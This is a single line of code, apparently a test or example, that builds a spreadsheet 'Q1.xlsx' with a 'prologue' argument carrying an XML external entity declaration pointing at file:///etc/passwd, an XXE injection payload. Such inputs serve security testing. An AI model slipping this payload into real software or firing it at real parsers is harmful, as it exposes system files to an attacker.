park.workbook("Q1.xlsx", "visits", prologue='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')
